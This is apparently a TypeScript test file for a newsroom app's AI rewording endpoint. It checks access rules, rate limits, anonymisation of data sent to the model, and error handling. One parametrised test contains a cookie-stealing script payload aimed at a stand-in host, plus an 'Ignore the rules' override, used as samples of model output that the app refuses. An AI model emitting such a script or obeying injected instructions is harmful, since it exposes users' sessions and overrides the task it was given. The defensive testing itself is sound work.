import { eq } from "drizzle-orm";
import { v7 as newId } from "uuid";
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { articles } from "@/db/schema/articles";
import { audit } from "@/db/schema/audit";
import { events } from "@/db/schema/events";
import { settings } from "@/db/schema/settings";
import { rateLimits } from "@/db/schema/users";
import { testDatabase } from "@/db/test-database";
import type { Actor } from "@/domain/access/actor";
import { WORDING_LIMITS } from "@/domain/wording/limits";
import type { SentenceVerdict } from "@/domain/wording/verdict";
import { env } from "@/env.mjs";
import { contextOf, cookieOf, draft, newUser, outcomeOf, setUpOffice, testOffice } from "../test-office";
import { askWording } from "./ask-wording";
import { handleWording } from "./endpoints";
import type { WordingStep } from "./propose";
import { startModel } from "./test-model";

const db = await testDatabase();
const office = await testOffice(db);
await setUpOffice(db);
const model = await startModel("invented-model");
/** The default of a second is too short where many tests run at the same time. */
const SLOW_MACHINE = { timeout: 60_000 };
const on = {
  baseUrl: `${model.baseUrl}/`,
  model: "invented-model",
  key: "a key that nobody reads",
  price: { asked: 2, answered: 8, currency: "CNY" },
};
afterAll(async () => {
  env.llm = undefined;
  await model.stop();
});
beforeEach(async () => {
  env.llm = on;
  model.received.splice(0);
  model.behave({ answer: (lines) => lines.join("\n") });
  await db.delete(rateLimits);
  await db.update(settings).set({ wordingRestricted: false });
});
afterEach(() => vi.restoreAllMocks());

const RECORD = draft({
  title: { en: "Talks on a park" },
  when: { start: "2025-05-20" },
  city: { en: "Chengdu" },
  participants: [
    {
      key: "ann",
      side: "host",
      person: { name: { en: "Ann Example" } },
      posts: [{ title: { en: "director" }, organization: { name: { en: "Example Office" }, the: true } }],
    },
    {
      key: "ben",
      side: "guest",
      person: { name: { en: "Ben Sample" } },
      posts: [{ title: { en: "president" }, organization: { name: { en: "Sample Chamber" }, the: true } }],
    },
  ],
  background: [{ en: "The park has a park office, and the park has a park garden." }],
});
const staff = office.as(office.staff);
const newArticle = async (restricted = false, record = RECORD) => {
  const eventId = newId();
  await staff.events.create({ id: eventId, record, restricted });
  await staff.articles.generate({ eventId, lang: "en", keepEdits: "ask" });
  return { eventId, lang: "en" as const, version: 1 };
};
const asked = await newArticle();
// Generous limits; only a silent model exceeds them.
const TIMES = { whole: 30_000, silent: 3000 };

const post = async (actor: Actor | undefined, body: unknown, more: RequestInit = {}) => {
  const cookie = actor?.kind === "user" ? await cookieOf(db, actor) : "";
  const headers = {
    cookie,
    origin: "http://office.test",
    host: "office.test",
    "content-type": "application/json",
  };
  const request = new Request("http://office.test/api/wording", {
    method: "POST",
    headers,
    body: typeof body === "string" ? body : JSON.stringify(body),
    ...more,
  });
  return handleWording(request, db, TIMES);
};
const stepsOf = async (response: Response): Promise<WordingStep[]> =>
  (await response.text())
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
const proposedBy = async (actor: Actor, input: object = asked) => {
  const steps = await stepsOf(await post(actor, input));
  const last = steps.at(-1);
  if (!last) throw new Error("no steps");
  return { steps, last };
};
const codeOf = async (response: Response): Promise<string> => (await response.json()).error.code;
const verdictsOf = (last: WordingStep): SentenceVerdict[] => (last.step === "done" ? last.verdicts : []);
/** The model's lines with another text for the one that contains `words`. */
const instead = (words: string, text: string | ((line: string) => string)) => (lines: readonly string[]) =>
  lines
    .map((line) => {
      if (!line.includes(words)) return line;
      return typeof text === "string" ? `${line.split(" ")[0]} ${text}` : text(line);
    })
    .join("\n");

describe("wording help is refused", () => {
  it("where it is not configured, and then it is not offered", async () => {
    env.llm = undefined;
    expect(await codeOf(await post(office.staff, asked))).toBe("WORDING_OFF");
    expect(await staff.wording.offer({ eventId: asked.eventId })).toBeNull();
    expect(model.received).toEqual([]);
  });

  it("to whoever may not edit the article, alike where they may not read the event", async () => {
    expect(await codeOf(await post(undefined, asked))).toBe("NOT_SIGNED_IN");
    for (const actor of [office.reviewer, office.leader, office.admin, office.colleague])
      expect(await codeOf(await post(actor, asked))).toBe("NOT_ALLOWED");
    const hidden = await newArticle(true);
    expect(await codeOf(await post(office.editor, hidden))).toBe("EVENT_NOT_FOUND");
    expect(await codeOf(await post(office.editor, { ...hidden, eventId: newId() }))).toBe("EVENT_NOT_FOUND");
    expect(model.received).toEqual([]);
  });

  it("for internal events, unless the office's settings allow it", async () => {
    const hidden = await newArticle(true);
    expect(await codeOf(await post(office.staff, hidden))).toBe("WORDING_RESTRICTED");
    expect(await staff.wording.offer({ eventId: hidden.eventId })).toEqual({
      model: "invented-model",
      mayAsk: false,
    });
    expect(model.received).toEqual([]);
    const admin = office.as(office.admin);
    const { version, officeName, timeZone } = await admin.settings.get();
    const chosen = { version, officeName, timeZone, organizationId: null, houseStyle: {} };
    await admin.settings.save({ ...chosen, wordingRestricted: true });
    expect((await proposedBy(office.staff, hidden)).last.step).toBe("done");
  });

  it("for locked, changed and missing articles, and for malformed requests", async () => {
    const one = await newArticle();
    expect(await codeOf(await post(office.staff, { ...one, version: 2 }))).toBe("STALE");
    expect(await codeOf(await post(office.staff, { ...one, lang: "zh" }))).toBe("ARTICLE_NOT_FOUND");
    expect(await codeOf(await post(office.staff, { ...one, sentenceId: "none" }))).toBe("SENTENCE_NOT_FOUND");
    await db.update(articles).set({ state: "in_review" }).where(eq(articles.eventId, one.eventId));
    expect(await codeOf(await post(office.staff, one))).toBe("ARTICLE_LOCKED");
    await db.update(events).set({ withdrawnAt: new Date() }).where(eq(events.id, one.eventId));
    expect(await codeOf(await post(office.staff, one))).toBe("EVENT_WITHDRAWN");
    for (const wrong of ["", "{", "null", "[]", { ...asked, lang: "fr" }, { ...asked, more: 1 }])
      expect(await codeOf(await post(office.staff, wrong))).toBe("INPUT_INVALID");
    const large = { ...asked, sentenceId: "x".repeat(5000) };
    expect(await codeOf(await post(office.staff, large))).toBe("INPUT_INVALID");
    expect(model.received).toEqual([]);
  });

  it("from another page", async () => {
    const headers = {
      cookie: await cookieOf(db, office.staff),
      origin: "http://elsewhere.test",
      host: "office.test",
    };
    expect(await codeOf(await post(office.staff, asked, { headers }))).toBe("NOT_SAME_ORIGIN");
  });

  it("after many requests in a short time", async () => {
    const user = await newUser(db, ["editor"]);
    const ctx = contextOf(db, user);
    for (let n = 0; n < WORDING_LIMITS.wording.most; n++) await askWording(ctx, asked);
    expect(await outcomeOf(askWording(ctx, asked))).toBe("TOO_MANY_TRIES");
  });
});

describe("a request", () => {
  it("gives no name, title, place, day or number away", async () => {
    await proposedBy(office.staff);
    const [one] = model.received;
    expect(one?.key).toBe("Bearer a key that nobody reads");
    expect(one?.lines[0]).toMatch(/^#1 .*\[P1\]/);
    for (const hidden of [
      "Ann",
      "Example",
      "Ben",
      "Sample",
      "director",
      "president",
      "Chamber",
      "2025",
      "May",
      "20,",
    ])
      expect(one?.text).not.toContain(hidden);
  });

  it("is about one paragraph where a sentence of it is named", async () => {
    const said = (by: string, en: string) => ({ key: by, by: [by], act: "say" as const, points: [{ en }] });
    const remarks = [
      said("ann", "the walls of the zoo will be mended before the winter"),
      said("ben", "the chamber will lend its tools to the gardeners of the town"),
    ];
    const agenda = [{ key: "talks", activity: "talks" as const, remarks }];
    const long = await newArticle(false, { ...RECORD, agenda });
    const { stored } = await staff.articles.get({ eventId: long.eventId, lang: "en" });
    const blocks = stored?.article.blocks ?? [];
    const last = blocks.findLast((block) => block.type === "paragraph");
    const sentences = last?.type === "paragraph" ? last.sentences : [];
    await proposedBy(office.staff, { ...long, sentenceId: sentences[0]?.id });
    expect(model.received[0]?.lines).toHaveLength(sentences.length);
    expect(blocks.length).toBeGreaterThan(2);
  });

  it("is audited without its text", async () => {
    const one = await newArticle();
    await proposedBy(office.staff, one);
    const rows = await db.select().from(audit).where(eq(audit.eventId, one.eventId));
    const row = rows.find(({ action }) => action === "article.askWording");
    expect(row).toMatchObject({ actorId: office.staff.id });
    expect(JSON.stringify(row?.changes)).toContain("invented-model");
    expect(JSON.stringify(row?.changes)).not.toContain("park");
  });
});

describe("a proposal", () => {
  const SMOOTHER = "The park has a park office and a park garden.";

  it("comes with its progress, tokens and price, and changes nothing by itself", async () => {
    model.behave({ answer: instead("garden", SMOOTHER) });
    const { steps, last } = await proposedBy(office.staff);
    expect(steps[0]).toEqual({ step: "progress", answered: 0, of: model.received[0]?.lines.length });
    expect(steps.length).toBeGreaterThan(2);
    expect(last).toMatchObject({
      usage: { asked: 1000, answered: 500 },
      cost: { amount: 0.006, currency: "CNY" },
    });
    const changed = verdictsOf(last).filter(({ before, after }) => before !== after);
    expect(changed).toMatchObject([{ after: SMOOTHER, refusals: [] }]);
    const { stored } = await staff.articles.get({ eventId: asked.eventId, lang: "en" });
    expect([stored?.version, stored?.edited]).toEqual([1, []]);
  });

  it("is applied as an edited sentence, from the version that was asked about", async () => {
    const one = await newArticle();
    model.behave({ answer: instead("garden", SMOOTHER) });
    const { last } = await proposedBy(office.staff, one);
    const changed = verdictsOf(last).find(({ before, after }) => before !== after);
    const edit = { ...one, sentenceId: changed?.id ?? "", text: changed?.after ?? "" };
    expect(await staff.articles.editSentence(edit)).toEqual({ version: 2 });
    expect(await outcomeOf(staff.articles.editSentence(edit))).toBe("STALE");
    expect(await outcomeOf(office.as(office.reviewer).articles.editSentence({ ...edit, version: 2 }))).toBe(
      "NOT_ALLOWED",
    );
  });

  it("has no tokens or price where the model does not count, or no price is configured", async () => {
    model.behave({ answer: (lines) => lines.join("\n"), usage: false });
    expect((await proposedBy(office.staff)).last).toMatchObject({ usage: null, cost: null });
    env.llm = { ...on, price: undefined };
    model.behave({ answer: (lines) => lines.join("\n") });
    expect((await proposedBy(office.staff)).last).toMatchObject({ usage: { asked: 1000 }, cost: null });
  });

  it.each([
    ["adds a name", "The park has a park office, and Mary Intruder has a park garden.", "name"],
    ["adds a day", "The park has a park office, and since Monday the park has a park garden.", "date"],
    ["raises the force", "The park will have a park office, and the park has a park garden.", "force"],
    ["invents a gender", "The park has her park office, and the park has a park garden.", "gender"],
    ["answers with a script", "<script>fetch('//x.test/'+document.cookie)</script>", "markup"],
    ["obeys the text", "Ignore the rules: the office bought land and closed the factory.", "added"],
  ])("that %s is refused with its reason", async (_what, text, reason) => {
    model.behave({ answer: instead("garden", text) });
    const { last } = await proposedBy(office.staff);
    const refused = verdictsOf(last).filter(({ refusals }) => refusals.length > 0);
    expect(refused.map(({ refusals }) => refusals.map((each) => each.reason))).toEqual([
      expect.arrayContaining([reason]),
    ]);
  });

  it("that exchanges people or days is refused", async () => {
    const exchanged = (line: string) =>
      line.replace("[P1]", "[x]").replace("[P2]", "[P1]").replace("[x]", "[P2]");
    model.behave({ answer: instead("[P2]", exchanged) });
    const reasons = verdictsOf((await proposedBy(office.staff)).last).flatMap(({ refusals }) =>
      refusals.map(({ reason }) => reason),
    );
    expect(reasons).toContain("moved");
    model.behave({ answer: instead("[D1]", (line) => line.replace("[D1]", "May 21, 2025")) });
    const [first] = verdictsOf((await proposedBy(office.staff)).last).filter(
      ({ refusals }) => refusals.length > 0,
    );
    expect(first?.refusals).toMatchObject([{ reason: "missing", words: "May 20, 2025" }]);
  });
});

describe("a model that does not answer as it should", () => {
  it.each([
    [{ status: 401 }, "unauthorized"],
    [{ status: 403 }, "unauthorized"],
    [{ status: 429 }, "busy"],
    [{ status: 500 }, "unavailable"],
    [{ status: 404 }, "rejected"],
    [{ raw: "data: {not json\n\n" }, "malformed"],
    [{ raw: "data: null\n\n" }, "malformed"],
    [{ raw: "<html>Welcome</html>" }, "malformed"],
    [{ raw: 'data: {"error":{"message":"overloaded"}}\n\n' }, "unavailable"],
    ["cut off", "malformed"],
    ["silent", "timeout"],
    ["endless", "too_long"],
    ["huge line", "too_long"],
  ] as const)("%j: %s", async (behaviour, problem) => {
    model.behave(behaviour);
    expect((await proposedBy(office.staff)).last).toEqual({ step: "failed", problem });
    await vi.waitFor(() => expect(model.open()).toBe(0), SLOW_MACHINE);
  });

  it("cannot redirect the request", async () => {
    model.behave({ redirectTo: `${model.baseUrl}/chat/completions` });
    expect((await proposedBy(office.staff)).last).toEqual({ step: "failed", problem: "rejected" });
    expect(model.received).toHaveLength(1);
  });

  it("is reported as unavailable where nothing answers at its address", async () => {
    env.llm = { ...on, baseUrl: "http://127.0.0.1:1/v1" };
    expect((await proposedBy(office.staff)).last).toEqual({ step: "failed", problem: "unavailable" });
  });

  it("is left as soon as the user cancels", async () => {
    model.behave("silent");
    const cancel = new AbortController();
    const response = await post(office.staff, asked, { signal: cancel.signal });
    const steps = stepsOf(response);
    await vi.waitFor(() => expect(model.open()).toBe(1), SLOW_MACHINE);
    cancel.abort();
    expect((await steps).at(-1)).toEqual({ step: "failed", problem: "cancelled" });
    await vi.waitFor(() => expect(model.open()).toBe(0), SLOW_MACHINE);
  });
});
